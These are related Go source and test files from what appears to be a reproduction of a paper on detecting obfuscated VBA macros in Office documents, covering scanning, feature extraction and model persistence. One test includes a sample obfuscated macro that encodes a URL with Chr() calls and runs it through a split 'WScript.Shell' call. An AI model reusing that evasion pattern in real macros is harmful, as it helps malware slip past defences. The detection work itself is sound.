// Timings splits one ScanFile call into its pipeline stages (§IV):
// container extraction, feature computation (the single parse), and
// classifier inference.
type Timings struct {
	ExtractNS   int64
	FeaturizeNS int64
	ClassifyNS  int64
}

// Add accumulates another measurement into t.
func (t *Timings) Add(o Timings) {
	t.ExtractNS += o.ExtractNS
	t.FeaturizeNS += o.FeaturizeNS
	t.ClassifyNS += o.ClassifyNS
}

// ScanFile extracts all macros from an Office document (.doc, .xls,
// .docm, .xlsm or a raw vbaProject.bin) and classifies each significant
// one. Returns extract.ErrNoMacros for macro-free documents.
func (d *Detector) ScanFile(data []byte) (*FileReport, error) {
	report, _, err := d.ScanFileTimed(data)
	return report, err
}

// ScanFileTimed is ScanFile with per-stage wall-clock attribution, the
// instrumentation the batch scan engine aggregates into throughput stats.
func (d *Detector) ScanFileTimed(data []byte) (*FileReport, Timings, error) {
	return d.ScanFileCtx(context.Background(), data)
}

// ScanFileCtx is ScanFileTimed under a context: the context deadline (if
// any) becomes the document's processing deadline, checked inside the
// parsing loops so a hostile document cannot hold the scanning goroutine
// past it. The detector's configured Limits (SetLimits) bound memory and
// work. A partially corrupted document yields err == nil with
// FileReport.Degraded set and the surviving macros classified; a document
// that exhausts its budget before producing anything yields a typed error
// classifiable with hostile.Classify / hostile.ExhaustsBudget.
//
// When the context carries a telemetry.Tracer (ContextWithTracer), every
// pipeline stage records a span under its root: extraction with its
// container sub-stages, then per-macro featurize/classify pairs.
func (d *Detector) ScanFileCtx(ctx context.Context, data []byte) (*FileReport, Timings, error) {
	var tm Timings
	if !d.trained {
		return nil, tm, ErrNotTrained
	}
	root := telemetry.TracerFrom(ctx).Root()
	bud := hostile.NewBudget(d.limits.Normalize())
	if dl, ok := ctx.Deadline(); ok {
		bud = bud.WithDeadline(dl)
	}
	start := time.Now()
	esp := root.Child("extract")
	esp.SetBytes(int64(len(data)))
	res, err := extract.FileBudgetTraced(data, bud, esp)
	tm.ExtractNS = time.Since(start).Nanoseconds()
	if err != nil {
		esp.SetError(err, hostile.Classify(err))
		esp.End()
		return nil, tm, err
	}
	esp.End()
	report := &FileReport{
		Format:         res.Format.String(),
		Project:        res.Project,
		Macros:         make([]MacroVerdict, 0, len(res.Macros)),
		StorageStrings: res.StorageStrings,
		Degraded:       res.Degraded,
		Errors:         res.Errors,
	}
	// Phase 1 — featurize. Each significant macro is looked up in the
	// macro cache (a hit reuses the memoized parse and verdict); misses
	// are analyzed once and queued for one batched classification pass.
	var (
		pendIdx  []int       // index into report.Macros
		pendVec  [][]float64 // feature row for the batch
		pendKey  []cache.Key // content hash, reused for the put
		pendSpan []*telemetry.Span
	)
	for _, m := range res.Macros {
		if len(extract.NormalizeSource(m.Source)) < extract.MinSignificantBytes {
			report.Skipped++
			continue
		}
		msp := root.Child("macro:" + m.Module)
		msp.SetBytes(int64(len(m.Source)))
		var key cache.Key
		if d.macros != nil {
			key = cache.KeyOfSaltedString(d.cacheSalt, m.Source)
			if ent, ok := d.macros.lookup(key); ok {
				msp.Annotate("cache", "hit")
				if ent.obfuscated {
					msp.Annotate("verdict", "obfuscated")
				}
				msp.End()
				report.Macros = append(report.Macros, MacroVerdict{
					Module:     m.Module,
					Obfuscated: ent.obfuscated,
					Score:      ent.score,
					Channels:   ent.channels,
					Source:     m.Source,
					Analysis:   ent.analysis,
				})
				continue
			}
		}
		t1 := time.Now()
		fsp := msp.Child("featurize")
		a := Analyze(m.Source)
		x := a.Features(d.featureSet)
		fsp.End()
		tm.FeaturizeNS += time.Since(t1).Nanoseconds()
		report.Macros = append(report.Macros, MacroVerdict{
			Module:   m.Module,
			Source:   m.Source,
			Analysis: a,
		})
		pendIdx = append(pendIdx, len(report.Macros)-1)
		pendVec = append(pendVec, x)
		pendKey = append(pendKey, key)
		pendSpan = append(pendSpan, msp)
	}
	// Phase 2 — classify every miss in one batch (tree-based models score
	// all rows per tree walk; scaled models transform each row once).
	if len(pendIdx) > 0 {
		t2 := time.Now()
		labels, scores, chans := d.classifyPending(pendVec)
		for k, i := range pendIdx {
			csp := pendSpan[k].Child("classify")
			csp.End()
			v := &report.Macros[i]
			v.Obfuscated = labels[k] == ml.Positive
			v.Score = scores[k]
			v.Channels = chans[k]
			if v.Obfuscated {
				pendSpan[k].Annotate("verdict", "obfuscated")
			}
			pendSpan[k].End()
			if d.macros != nil {
				d.macros.store(pendKey[k], v.Source, macroCached{
					analysis:   v.Analysis,
					obfuscated: v.Obfuscated,
					score:      v.Score,
					channels:   v.Channels,
				})
			}
		}
		tm.ClassifyNS += time.Since(t2).Nanoseconds()
	}
	if report.Skipped > 0 {
		root.Annotate("skipped", fmt.Sprintf("%d", report.Skipped))
	}
	if report.Degraded {
		root.Annotate("degraded", "true")
	}
	return report, tm, nil
}

// modelHeader is the persisted model envelope. Marshaling it with
// encoding/json (rather than assembling the JSON by hand) guarantees the
// feature-set and algorithm strings are escaped correctly. Channels
// records the exact channel layout (name, version, dimension) the model
// was trained on; the loader validates it against the binary's feature
// registry. Headers written before the registry existed carry no channels
// field and are accepted only for the legacy V/J sets, whose extractors
// are frozen at version 1.
type modelHeader struct {
	FeatureSet string         `json:"featureSet"`
	Algorithm  string         `json:"algorithm"`
	Channels   []modelChannel `json:"channels,omitempty"`
	// Baselines are the train-time per-channel score distributions for
	// production drift monitoring. Optional: models saved before the
	// field existed load without them (drift gauges then report 0).
	Baselines []ChannelBaseline `json:"baselines,omitempty"`
	Model     json.RawMessage   `json:"model"`
}

// modelChannel is one persisted channel record.
type modelChannel struct {
	Name    string `json:"name"`
	Version int    `json:"version"`
	Dim     int    `json:"dim"`
}

// SaveModel serializes the trained detector (feature set + channel layout
// + classifier).
func (d *Detector) SaveModel() ([]byte, error) {
	if !d.trained {
		return nil, ErrNotTrained
	}
	blob := d.modelRaw
	if blob == nil {
		var err error
		blob, err = ml.Save(d.clf)
		if err != nil {
			return nil, err
		}
	}
	chans := d.featureSet.Channels()
	rec := make([]modelChannel, len(chans))
	for i, c := range chans {
		rec[i] = modelChannel{Name: c.Name, Version: c.Version, Dim: c.Dim()}
	}
	return json.Marshal(modelHeader{
		FeatureSet: d.featureSet.String(),
		Algorithm:  string(d.algo),
		Channels:   rec,
		Baselines:  d.baselines,
		Model:      blob,
	})
}

// Container model format: SaveModelCompiled wraps the JSON model in a
// binary container that also carries the fixed-layout compiled-forest
// section, so LoadModelFile can mmap the section and serve inference
// straight off the page cache. The preamble (magic, container version,
// reserved word, JSON length) is frozen across container versions: any
// future reader can always locate the JSON model and fall back to it, and
// any future writer keeps old readers working.
const (
	modelMagic            = "VBADMDL1"
	modelContainerVersion = 1
	modelPreambleSize     = 24
)

func alignModel8(n int) int { return (n + 7) &^ 7 }

// SaveModelCompiled serializes the trained detector as a model container.
// For a Random Forest the container holds the JSON model plus the compiled
// section; for every other algorithm it returns the plain JSON model
// (there is nothing to compile, and LoadModel accepts both forms).
func (d *Detector) SaveModelCompiled() ([]byte, error) {
	jsonBlob, err := d.SaveModel()
	if err != nil {
		return nil, err
	}
	var cf *ml.CompiledForest
	switch v := d.clf.(type) {
	case *ml.CompiledForest:
		cf = v
	case *ml.RandomForest:
		if cf = v.Compiled(); cf == nil {
			if err := v.Compile(); err != nil {
				return jsonBlob, nil // non-compilable: plain JSON still works
			}
			cf = v.Compiled()
		}
	default:
		return jsonBlob, nil
	}
	section, err := ml.EncodeCompiled(cf)
	if err != nil {
		return nil, fmt.Errorf("core: encode compiled section: %w", err)
	}
	// Preamble and section-length words use fixed little-endian so the JSON
	// model stays reachable on any machine; the section itself is
	// native-endian and tagged, and a foreign-endian reader falls back.
	le := binary.LittleEndian
	sectionOff := alignModel8(modelPreambleSize+len(jsonBlob)) + 8
	buf := make([]byte, sectionOff+len(section))
	copy(buf[0:8], modelMagic)
	le.PutUint32(buf[8:], modelContainerVersion)
	le.PutUint64(buf[16:], uint64(len(jsonBlob)))
	copy(buf[modelPreambleSize:], jsonBlob)
	le.PutUint64(buf[sectionOff-8:], uint64(len(section)))
	copy(buf[sectionOff:], section)
	return buf, nil
}

// splitModelContainer separates a model blob into its JSON model and
// optional compiled section. Plain JSON (no container magic) passes
// through unchanged. An unknown container version still yields the JSON
// model — the preamble is frozen — but the section is ignored.
func splitModelContainer(data []byte) (jsonBlob, section []byte, err error) {
	if len(data) < modelPreambleSize || string(data[0:8]) != modelMagic {
		return data, nil, nil
	}
	le := binary.LittleEndian
	version := le.Uint32(data[8:])
	jsonLen := le.Uint64(data[16:])
	if jsonLen > uint64(len(data)-modelPreambleSize) {
		return nil, nil, errors.New("core: model container truncated")
	}
	jsonBlob = data[modelPreambleSize : modelPreambleSize+int(jsonLen)]
	if version != modelContainerVersion {
		return jsonBlob, nil, nil
	}
	sectionOff := alignModel8(modelPreambleSize + int(jsonLen))
	if sectionOff == len(data) {
		return jsonBlob, nil, nil // container without a section
	}
	if sectionOff+8 > len(data) {
		return nil, nil, errors.New("core: model container truncated")
	}
	sectionLen := le.Uint64(data[sectionOff:])
	if sectionLen > uint64(len(data)-sectionOff-8) {
		return nil, nil, errors.New("core: model container truncated")
	}
	return jsonBlob, data[sectionOff+8 : sectionOff+8+int(sectionLen)], nil
}

// LoadModel restores a detector saved with SaveModel or SaveModelCompiled.
// For a container, the compiled section is preferred; version or
// endianness skew in the section falls back cleanly to the embedded JSON
// model, while a corrupt section (bad checksum, hostile indices) is
// surfaced as an error rather than silently ignored.
func LoadModel(data []byte) (*Detector, error) {
	return loadModel(data, nil)
}

func loadModel(data []byte, m *ml.Mapping) (*Detector, error) {
	jsonBlob, section, err := splitModelContainer(data)
	if err != nil {
		return nil, err
	}
	var head modelHeader
	if err := json.Unmarshal(jsonBlob, &head); err != nil {
		return nil, fmt.Errorf("core: bad model: %w", err)
	}
	var clf ml.Classifier
	if section != nil && Algorithm(head.Algorithm) == AlgoRF {
		cf, err := ml.DecodeCompiled(section, m)
		switch {
		case err == nil:
			clf = cf
		case errors.Is(err, ml.ErrSnapshotVersion), errors.Is(err, ml.ErrSnapshotEndian):
			// Reader skew, not damage: the JSON model below is equivalent.
		default:
			return nil, fmt.Errorf("core: bad model: %w", err)
		}
	}
	if clf == nil {
		var err error
		clf, err = ml.Load(head.Model)
		if err != nil {
			return nil, fmt.Errorf("core: bad model: %w", err)
		}
	}
	fs, err := ParseFeatureSet(head.FeatureSet)
	if err != nil {
		return nil, fmt.Errorf("core: bad model: %w", err)
	}
	if err := validateModelChannels(fs, head.Channels); err != nil {
		return nil, err
	}
	sum := sha256.Sum256(data)
	return &Detector{
		featureSet: fs,
		algo:       Algorithm(head.Algorithm),
		clf:        clf,
		trained:    true,
		modelRaw:   append(json.RawMessage(nil), head.Model...),
		baselines:  head.Baselines,
		cacheSalt:  fs.CacheID(),
		modelSHA:   hex.EncodeToString(sum[:]),
	}, nil
}

// validateModelChannels checks the model's recorded channel layout against
// the binary's feature registry: every recorded channel must exist with
// the same version and dimension, and the record must cover the feature
// set's layout exactly. Any mismatch means the model's vectors and this
// binary's extractors disagree, so the load fails closed with a
// FeatureSkewError. A header with no channel record (written before the
// registry existed) is accepted only for the legacy V/J sets — their
// extractors are frozen at version 1, so those models stay bit-compatible.
func validateModelChannels(fs FeatureSet, rec []modelChannel) error {
	want := fs.Channels()
	if len(rec) == 0 {
		if fs == FeatureSetV || fs == FeatureSetJ {
			return nil
		}
		return &FeatureSkewError{
			FeatureSet: fs.String(),
			Reason:     "model has no channel record; only legacy V/J models may omit it",
		}
	}
	if len(rec) != len(want) {
		return &FeatureSkewError{
			FeatureSet: fs.String(),
			Reason: fmt.Sprintf("model records %d channels, feature set %q has %d",
				len(rec), fs.String(), len(want)),
		}
	}
	for i, r := range rec {
		w := want[i]
		if r.Name != w.Name {
			return &FeatureSkewError{
				FeatureSet: fs.String(), Channel: r.Name,
				Reason: fmt.Sprintf("channel %d is %q, feature set expects %q", i, r.Name, w.Name),
			}
		}
		if r.Version != w.Version {
			return &FeatureSkewError{
				FeatureSet: fs.String(), Channel: r.Name,
				Reason: fmt.Sprintf("model trained on %s@%d, binary provides %s@%d",
					r.Name, r.Version, w.Name, w.Version),
			}
		}
		if r.Dim != w.Dim() {
			return &FeatureSkewError{
				FeatureSet: fs.String(), Channel: r.Name,
				Reason: fmt.Sprintf("channel %s has %d dims in the model, %d in this binary",
					r.Name, r.Dim, w.Dim()),
			}
		}
	}
	return nil
}

// LoadModelFile restores a detector from a model file. With useMmap set
// and a container whose compiled section can be aliased in place, the
// detector serves inference directly off the read-only mapping — N
// workers (and, via the page cache, N processes) share one model image —
// and owns the mapping: call Close when done. In every other case the
// file is read and decoded into process memory.
func LoadModelFile(path string, useMmap bool) (*Detector, error) {
	if !useMmap {
		data, err := os.ReadFile(path)
		if err != nil {
			return nil, fmt.Errorf("core: read model: %w", err)
		}
		return LoadModel(data)
	}
	m, err := ml.MapFile(path)
	if err != nil {
		return nil, fmt.Errorf("core: map model: %w", err)
	}
	det, err := loadModel(m.Data(), m)
	if err != nil {
		m.Close()
		return nil, err
	}
	if cf, ok := det.clf.(*ml.CompiledForest); ok && cf.Mapping() == m {
		det.mapping = m
	} else {
		m.Close() // decode copied (or fell back to JSON); mapping unused
	}
	return det, nil
}

// ModelMapping returns the mmap'd model image backing this detector, or
// nil when the model lives in process memory.
func (d *Detector) ModelMapping() *ml.Mapping { return d.mapping }

// Close releases the detector's model mapping, if any. The underlying
// image stays mapped until in-flight batch scoring calls that pinned it
// finish; new scans must not start after Close. Close is idempotent and a
// no-op for detectors without a mapping.
func (d *Detector) Close() error {
	if d.mapping != nil {
		return d.mapping.Close()
	}
	return nil
}
