// Package core assembles the paper's contribution into a usable library:
// a Detector that extracts VBA macros from Office documents, computes the
// V1–V15 (or J1–J20) static features, and classifies each macro as
// obfuscated or not with one of the five supported classifiers.
//
// The pipeline mirrors §IV: extraction (oletools equivalent) →
// preprocessing (dedup, significance filter) → feature extraction →
// classification, with 10-fold cross-validated training provided by
// package eval.
package core

import (
	"errors"
	"fmt"

	"repro/internal/extract"
	"repro/internal/features"
	"repro/internal/ml"
)

// FeatureSet selects which static feature vector the detector uses.
type FeatureSet int

// Feature sets from the paper's evaluation.
const (
	// FeatureSetV is the proposed 15-feature set (Table IV).
	FeatureSetV FeatureSet = iota + 1
	// FeatureSetJ is the 20-feature comparison set from the JavaScript
	// obfuscation literature (Table VI).
	FeatureSetJ
)

// String names the feature set.
func (f FeatureSet) String() string {
	switch f {
	case FeatureSetV:
		return "V"
	case FeatureSetJ:
		return "J"
	default:
		return fmt.Sprintf("FeatureSet(%d)", int(f))
	}
}

// Extract computes the feature vector of the set for one macro source.
func (f FeatureSet) Extract(src string) []float64 {
	if f == FeatureSetJ {
		return features.ExtractJ(src)
	}
	return features.ExtractV(src)
}

// Dim is the feature vector length.
func (f FeatureSet) Dim() int {
	if f == FeatureSetJ {
		return features.JDim
	}
	return features.VDim
}

// Algorithm identifies one of the five classifiers of §IV.D.
type Algorithm string

// Supported algorithms.
const (
	AlgoSVM Algorithm = "svm"
	AlgoRF  Algorithm = "rf"
	AlgoMLP Algorithm = "mlp"
	AlgoLDA Algorithm = "lda"
	AlgoBNB Algorithm = "bnb"
)

// Algorithms lists all supported algorithms in the paper's order.
func Algorithms() []Algorithm {
	return []Algorithm{AlgoSVM, AlgoRF, AlgoMLP, AlgoLDA, AlgoBNB}
}

// NewClassifier constructs a fresh classifier for the algorithm with the
// paper's hyperparameters (SVM C=150 γ=0.03; RF 100 trees; MLP 100 hidden
// units with Adam). SVM, MLP and LDA are wrapped with standardization.
func NewClassifier(algo Algorithm, seed int64) (ml.Classifier, error) {
	switch algo {
	case AlgoSVM:
		return ml.NewScaled(ml.NewSVM(seed)), nil
	case AlgoRF:
		return ml.NewRandomForest(seed), nil
	case AlgoMLP:
		return ml.NewScaled(ml.NewMLP(seed)), nil
	case AlgoLDA:
		return ml.NewScaled(ml.NewLDA()), nil
	case AlgoBNB:
		return ml.NewBernoulliNB(), nil
	default:
		return nil, fmt.Errorf("core: unknown algorithm %q", algo)
	}
}

// ErrNotTrained is returned when classifying before Train/LoadModel.
var ErrNotTrained = errors.New("core: detector is not trained")

// Detector is the end-to-end obfuscation detector.
type Detector struct {
	featureSet FeatureSet
	algo       Algorithm
	clf        ml.Classifier
	trained    bool
}

// NewDetector creates an untrained detector.
func NewDetector(algo Algorithm, fs FeatureSet, seed int64) (*Detector, error) {
	clf, err := NewClassifier(algo, seed)
	if err != nil {
		return nil, err
	}
	if fs != FeatureSetV && fs != FeatureSetJ {
		return nil, fmt.Errorf("core: unknown feature set %d", int(fs))
	}
	return &Detector{featureSet: fs, algo: algo, clf: clf}, nil
}

// FeatureSet reports the detector's feature set.
func (d *Detector) FeatureSet() FeatureSet { return d.featureSet }

// Algorithm reports the detector's classifier algorithm.
func (d *Detector) Algorithm() Algorithm { return d.algo }

// Train fits the detector on macro sources with obfuscation labels
// (1 = obfuscated).
func (d *Detector) Train(sources []string, labels []int) error {
	if len(sources) != len(labels) {
		return fmt.Errorf("core: %d sources vs %d labels", len(sources), len(labels))
	}
	X := make([][]float64, len(sources))
	for i, src := range sources {
		X[i] = d.featureSet.Extract(src)
	}
	if err := d.clf.Fit(X, labels); err != nil {
		return fmt.Errorf("core: train: %w", err)
	}
	d.trained = true
	return nil
}

// MacroVerdict is the per-macro classification outcome.
type MacroVerdict struct {
	// Module is the VBA module name.
	Module string
	// Obfuscated is the predicted label.
	Obfuscated bool
	// Score is the classifier's decision score (higher = more likely
	// obfuscated; the decision threshold depends on the algorithm).
	Score float64
	// Source is the macro text.
	Source string
}

// FileReport is the outcome of scanning one document.
type FileReport struct {
	// Format is the detected container format ("ole" or "ooxml").
	Format string
	// Project is the VBA project name.
	Project string
	// Macros holds one verdict per significant extracted macro.
	Macros []MacroVerdict
	// Skipped counts extracted macros below the significance threshold.
	Skipped int
	// StorageStrings are printable strings recovered from document
	// storage outside the macro code (UserForm captions, document
	// variables) — where hidden-string anti-analysis parks payloads.
	StorageStrings []string
}

// Obfuscated reports whether any macro in the file was classified as
// obfuscated.
func (r *FileReport) Obfuscated() bool {
	for _, m := range r.Macros {
		if m.Obfuscated {
			return true
		}
	}
	return false
}

// ClassifySource classifies a single macro source.
func (d *Detector) ClassifySource(src string) (MacroVerdict, error) {
	if !d.trained {
		return MacroVerdict{}, ErrNotTrained
	}
	x := d.featureSet.Extract(src)
	return MacroVerdict{
		Obfuscated: d.clf.Predict(x) == ml.Positive,
		Score:      d.clf.Score(x),
		Source:     src,
	}, nil
}

// ScanFile extracts all macros from an Office document (.doc, .xls,
// .docm, .xlsm or a raw vbaProject.bin) and classifies each significant
// one. Returns extract.ErrNoMacros for macro-free documents.
func (d *Detector) ScanFile(data []byte) (*FileReport, error) {
	if !d.trained {
		return nil, ErrNotTrained
	}
	res, err := extract.File(data)
	if err != nil {
		return nil, err
	}
	report := &FileReport{
		Format:         res.Format.String(),
		Project:        res.Project,
		StorageStrings: res.StorageStrings,
	}
	for _, m := range res.Macros {
		if len(extract.NormalizeSource(m.Source)) < extract.MinSignificantBytes {
			report.Skipped++
			continue
		}
		v, err := d.ClassifySource(m.Source)
		if err != nil {
			return nil, err
		}
		v.Module = m.Module
		report.Macros = append(report.Macros, v)
	}
	return report, nil
}

// SaveModel serializes the trained detector (feature set + classifier).
func (d *Detector) SaveModel() ([]byte, error) {
	if !d.trained {
		return nil, ErrNotTrained
	}
	blob, err := ml.Save(d.clf)
	if err != nil {
		return nil, err
	}
	return []byte(fmt.Sprintf(`{"featureSet":%q,"algorithm":%q,"model":%s}`,
		d.featureSet.String(), string(d.algo), blob)), nil
}

// LoadModel restores a detector saved with SaveModel.
func LoadModel(data []byte) (*Detector, error) {
	var head struct {
		FeatureSet string `json:"featureSet"`
		Algorithm  string `json:"algorithm"`
	}
	if err := jsonUnmarshal(data, &head); err != nil {
		return nil, fmt.Errorf("core: bad model: %w", err)
	}
	var raw struct {
		Model jsonRaw `json:"model"`
	}
	if err := jsonUnmarshal(data, &raw); err != nil {
		return nil, fmt.Errorf("core: bad model: %w", err)
	}
	clf, err := ml.Load(raw.Model)
	if err != nil {
		return nil, fmt.Errorf("core: bad model: %w", err)
	}
	fs := FeatureSetV
	if head.FeatureSet == "J" {
		fs = FeatureSetJ
	}
	return &Detector{
		featureSet: fs,
		algo:       Algorithm(head.Algorithm),
		clf:        clf,
		trained:    true,
	}, nil
}
