package core

import (
	"bytes"
	"encoding/json"
	"testing"
)

// TestFileReportJSON asserts the wire representation carries verdicts and
// counts without the macro sources.
func TestFileReportJSON(t *testing.T) {
	rep := &FileReport{
		Format:  "ole",
		Project: "VBAProject",
		Macros: []MacroVerdict{
			{Module: "Module1", Obfuscated: true, Score: 1.5, Source: "Sub A()\nEnd Sub"},
			{Module: "Module2", Obfuscated: false, Score: -0.25, Source: "Sub B()\nEnd Sub"},
		},
		Skipped:        3,
		StorageStrings: []string{"hidden payload"},
	}
	got := rep.JSON()
	if !got.Obfuscated {
		t.Error("Obfuscated = false, want true (Module1 is obfuscated)")
	}
	if len(got.Macros) != 2 {
		t.Fatalf("macros = %d, want 2", len(got.Macros))
	}
	if got.Macros[0].Module != "Module1" || !got.Macros[0].Obfuscated || got.Macros[0].Score != 1.5 {
		t.Errorf("macro 0 = %+v", got.Macros[0])
	}
	if got.Macros[0].SourceBytes != len("Sub A()\nEnd Sub") {
		t.Errorf("SourceBytes = %d", got.Macros[0].SourceBytes)
	}
	if got.Skipped != 3 || got.StorageStrings != 1 {
		t.Errorf("counts = %+v", got)
	}

	blob, err := json.Marshal(got)
	if err != nil {
		t.Fatal(err)
	}
	var round ReportJSON
	if err := json.Unmarshal(blob, &round); err != nil {
		t.Fatal(err)
	}
	if round.Macros[1].Score != -0.25 {
		t.Errorf("round-tripped score = %v", round.Macros[1].Score)
	}
	// The macro source must not leak into the wire format.
	if bytes.Contains(blob, []byte("Sub A()")) {
		t.Errorf("wire JSON contains macro source: %s", blob)
	}
}
