package core

import "encoding/json"

// Thin aliases keep core.go's model (de)serialization readable.

type jsonRaw = json.RawMessage

func jsonUnmarshal(data []byte, v any) error { return json.Unmarshal(data, v) }
