package core

import (
	"errors"
	"strings"
	"testing"

	"repro/internal/cfb"
	"repro/internal/corpus"
	"repro/internal/extract"
	"repro/internal/ovba"
)

// trainSmall trains a detector on a small deterministic corpus.
func trainSmall(t testing.TB, algo Algorithm, fs FeatureSet) *Detector {
	t.Helper()
	spec := corpus.SmallSpec()
	spec.BenignMacros, spec.BenignObfuscated = 120, 20
	spec.MaliciousMacros, spec.MaliciousObfuscated = 60, 55
	spec.BenignMaxLen = 4000
	d := corpus.GenerateMacros(spec)
	det, err := NewDetector(algo, fs, 7)
	if err != nil {
		t.Fatal(err)
	}
	if err := det.Train(d.Sources(), d.Labels()); err != nil {
		t.Fatal(err)
	}
	return det
}

func TestDetectorTrainAndClassify(t *testing.T) {
	det := trainSmall(t, AlgoRF, FeatureSetV)
	// A plainly obfuscated macro.
	obf := `Sub ljkwejrkqw()
Dim zxqwkejhqs As String
zxqwkejhqs = Chr(104) & Chr(116) & Chr(116) & Chr(112) & Chr(58) & Chr(47) & Chr(47) & Chr(101) & Chr(120)
qqwlkejqwe = Replace("savteRKtofilteRK", "teRK", "e")
CreateObject("WScr" + "ipt.Sh" + "ell").Run zxqwkejhqs, 0
Dim wqlekjqwlke As Integer
wqlekjqwlke = 2
Do While wqlekjqwlke < 45
DoEvents: wqlekjqwlke = wqlekjqwlke + 1
Loop
End Sub
`
	v, err := det.ClassifySource(obf)
	if err != nil {
		t.Fatal(err)
	}
	if !v.Obfuscated {
		t.Errorf("obfuscated macro classified as clean (score %v)", v.Score)
	}
	// A plainly benign macro.
	benign := `Sub UpdateReport()
    ' update the summary sheet
    Dim totalAmount As Long
    Dim rowIndex As Long
    For rowIndex = 1 To 50
        totalAmount = totalAmount + Cells(rowIndex, 2).Value
    Next rowIndex
    Worksheets("Summary").Range("B1").Value = totalAmount
    MsgBox "Report updated successfully"
End Sub
`
	v, err = det.ClassifySource(benign)
	if err != nil {
		t.Fatal(err)
	}
	if v.Obfuscated {
		t.Errorf("benign macro classified as obfuscated (score %v)", v.Score)
	}
}

func TestDetectorUntrained(t *testing.T) {
	det, err := NewDetector(AlgoRF, FeatureSetV, 1)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := det.ClassifySource("Sub A()\nEnd Sub"); !errors.Is(err, ErrNotTrained) {
		t.Errorf("err = %v, want ErrNotTrained", err)
	}
	if _, err := det.ScanFile(nil); !errors.Is(err, ErrNotTrained) {
		t.Errorf("err = %v, want ErrNotTrained", err)
	}
}

func TestNewDetectorValidation(t *testing.T) {
	if _, err := NewDetector("nope", FeatureSetV, 1); err == nil {
		t.Error("unknown algorithm accepted")
	}
	if _, err := NewDetector(AlgoRF, FeatureSet(99), 1); err == nil {
		t.Error("unknown feature set accepted")
	}
}

func TestAllAlgorithmsConstructAndTrain(t *testing.T) {
	if testing.Short() {
		t.Skip("slow")
	}
	for _, algo := range Algorithms() {
		det := trainSmall(t, algo, FeatureSetV)
		if _, err := det.ClassifySource("Sub A()\nDim x As Long\nx = 1\nEnd Sub"); err != nil {
			t.Errorf("%s: %v", algo, err)
		}
	}
}

func TestScanFile(t *testing.T) {
	det := trainSmall(t, AlgoRF, FeatureSetV)

	// Build a document with one long benign macro and one tiny one.
	longSrc := "Sub KeepMe()\n"
	for i := 0; i < 20; i++ {
		longSrc += "    totalValue = totalValue + Cells(1, 1).Value\n"
	}
	longSrc += "End Sub\n"
	p := &ovba.Project{Name: "P", Modules: []ovba.Module{
		{Name: "Module1", Source: longSrc},
		{Name: "Tiny", Source: "' nothing\n"},
	}}
	b := cfb.NewBuilder()
	if err := p.WriteTo(b, "Macros"); err != nil {
		t.Fatal(err)
	}
	raw, err := b.Bytes()
	if err != nil {
		t.Fatal(err)
	}
	report, err := det.ScanFile(raw)
	if err != nil {
		t.Fatal(err)
	}
	if report.Format != "ole" {
		t.Errorf("format = %q", report.Format)
	}
	if len(report.Macros) != 1 {
		t.Fatalf("macros = %d, want 1 (tiny one filtered): %+v", len(report.Macros), report.Macros)
	}
	if report.Skipped != 1 {
		t.Errorf("skipped = %d, want 1", report.Skipped)
	}
	if report.Macros[0].Module != "Module1" {
		t.Errorf("module = %q", report.Macros[0].Module)
	}
	if report.Obfuscated() {
		t.Error("benign file reported obfuscated")
	}
}

func TestScanFileNoMacros(t *testing.T) {
	det := trainSmall(t, AlgoRF, FeatureSetV)
	b := cfb.NewBuilder()
	if err := b.AddStream("WordDocument", []byte("x")); err != nil {
		t.Fatal(err)
	}
	raw, err := b.Bytes()
	if err != nil {
		t.Fatal(err)
	}
	if _, err := det.ScanFile(raw); !errors.Is(err, extract.ErrNoMacros) {
		t.Errorf("err = %v, want ErrNoMacros", err)
	}
}

func TestSaveLoadModel(t *testing.T) {
	det := trainSmall(t, AlgoRF, FeatureSetJ)
	blob, err := det.SaveModel()
	if err != nil {
		t.Fatal(err)
	}
	restored, err := LoadModel(blob)
	if err != nil {
		t.Fatal(err)
	}
	if restored.FeatureSet() != FeatureSetJ {
		t.Errorf("feature set = %v", restored.FeatureSet())
	}
	if restored.Algorithm() != AlgoRF {
		t.Errorf("algorithm = %v", restored.Algorithm())
	}
	src := "Sub qlwkejqlkwe()\nx = Chr(1) & Chr(2) & Chr(3) & Chr(4)\nEnd Sub\n" + strings.Repeat("' pad\n", 30)
	a, err := det.ClassifySource(src)
	if err != nil {
		t.Fatal(err)
	}
	b, err := restored.ClassifySource(src)
	if err != nil {
		t.Fatal(err)
	}
	if a.Score != b.Score || a.Obfuscated != b.Obfuscated {
		t.Errorf("verdicts differ after model round trip: %+v vs %+v", a, b)
	}
}

func TestSaveModelUntrained(t *testing.T) {
	det, err := NewDetector(AlgoRF, FeatureSetV, 1)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := det.SaveModel(); !errors.Is(err, ErrNotTrained) {
		t.Errorf("err = %v", err)
	}
}

func TestLoadModelErrors(t *testing.T) {
	for _, blob := range []string{"", "garbage", `{"featureSet":"V","algorithm":"rf","model":{"kind":"alien","body":{}}}`} {
		if _, err := LoadModel([]byte(blob)); err == nil {
			t.Errorf("LoadModel(%q) succeeded", blob)
		}
	}
}

func TestFeatureSetMeta(t *testing.T) {
	if FeatureSetV.String() != "V" || FeatureSetJ.String() != "J" {
		t.Error("names")
	}
	if FeatureSetV.Dim() != 15 || FeatureSetJ.Dim() != 20 {
		t.Error("dims")
	}
	if len(FeatureSetV.Extract("Sub A()\nEnd Sub")) != 15 {
		t.Error("extract V")
	}
	if len(FeatureSetJ.Extract("Sub A()\nEnd Sub")) != 20 {
		t.Error("extract J")
	}
}

func TestTrainValidation(t *testing.T) {
	det, err := NewDetector(AlgoRF, FeatureSetV, 1)
	if err != nil {
		t.Fatal(err)
	}
	if err := det.Train([]string{"a"}, []int{0, 1}); err == nil {
		t.Error("length mismatch accepted")
	}
	if err := det.Train(nil, nil); err == nil {
		t.Error("empty training accepted")
	}
}
