package core

import (
	"bytes"
	"encoding/json"
	"testing"

	"repro/internal/corpus"
)

// smallCorpus generates the deterministic training corpus shared by the
// parallelism tests.
func smallCorpus(t testing.TB) *corpus.Dataset {
	t.Helper()
	spec := corpus.SmallSpec()
	spec.BenignMacros, spec.BenignObfuscated = 120, 20
	spec.MaliciousMacros, spec.MaliciousObfuscated = 60, 55
	spec.BenignMaxLen = 4000
	return corpus.GenerateMacros(spec)
}

// TestTrainParallelDeterminism asserts a seeded detector serializes to
// bit-identical bytes whether trained with 1 worker or many — the
// guarantee that makes the -workers flag safe to tune freely.
func TestTrainParallelDeterminism(t *testing.T) {
	d := smallCorpus(t)
	for _, algo := range []Algorithm{AlgoRF, AlgoLDA} {
		var blobs [][]byte
